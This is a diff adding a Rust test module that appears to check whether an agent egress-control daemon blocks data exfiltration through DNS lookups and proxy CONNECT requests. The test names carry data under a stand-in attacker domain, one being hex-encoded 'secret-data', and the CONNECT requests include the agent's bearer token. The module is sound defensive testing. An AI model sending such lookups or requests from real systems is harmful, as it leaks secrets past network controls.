@@ -1,0 +1,68 @@
+//! DNS as a way out: a name is data, and the server of its domain reads it.
+
+use onecli_tests::client::Run;
+use onecli_tests::need;
+
+use crate::row::{Row, Trial};
+use crate::world::{A, World, reply};
+
+pub(crate) const ROWS: &[Row] = &[
+    Row::new(
+        "dns/exfiltration",
+        "data out, as names of a domain of its own",
+        "a name that it may reach resolves",
+        exfiltration,
+    ),
+    Row::new(
+        "dns/connect",
+        "the same through CONNECT at the explicit proxy",
+        "CONNECT to a host that it may reach is served",
+        connect,
+    ),
+];
+
+/// Names that carry data.
+const NAMES: &[&str] = &[
+    "7365637265742d64617461.evil.test",
+    "a.b.c.d.e.f.g.evil.test",
+    "data.a.test",
+    "_dmarc.evil.test",
+    "xn--e1afmkfd.evil.test",
+];
+
+fn exfiltration(trial: &mut Trial) {
+    if let Some(why) = need::bpf_missing() {
+        return trial.not_run(why);
+    }
+    let script = crate::world::Script::start(&[A], |_, conn| reply(conn, "ok"));
+    let world = World::built(onecli_tests::daemon::Daemon::builder(), script, &[A]);
+    let agent = world.daemon.add_agent("inside", &["--factors", "token,cgroup", "--user", "nobody"]);
+    world.secret("key", A, crate::world::VALUE, &["--bearer", "--env", "KEY"]);
+    let _ = world.daemon.grant(&agent, "key");
+    let resolve = |name: &str| {
+        let run = Run::new("getent").args(["ahosts", name]);
+        world.daemon.managed(&agent, &run).outcome()
+    };
+    trial.control("the allowed name resolves", resolve(A).status.success());
+    for name in NAMES {
+        let outcome = resolve(name);
+        trial.attempt(format!("{name}: {}", outcome.out()), outcome.status.success());
+        let refused = world.daemon.audit().iter().any(|r| r["host"] == *name && r["code"] == "egress_denied");
+        trial.attempt(format!("{name} was asked for outside"), !refused);
+    }
+}
+
+fn connect(trial: &mut Trial) {
+    let (world, _) = World::with_key(&["--bearer"], |_, conn| reply(conn, "ok"));
+    let answer = world.get(A, "/", "Connection: close\r\n");
+    trial.control("CONNECT to the allowed host", answer.status == 200);
+    for name in NAMES {
+        let head = format!(
+            "CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\nProxy-Authorization: Bearer {}\r\n\r\n",
+            world.agent.token
+        );
+        let answer = String::from_utf8_lossy(&world.raw_head(head.as_bytes())).into_owned();
+        let refused = answer.contains("x-onecli-error: egress_denied");
+        trial.attempt(format!("{name}: {}", answer.lines().next().unwrap_or_default()), !refused);
+    }
+}
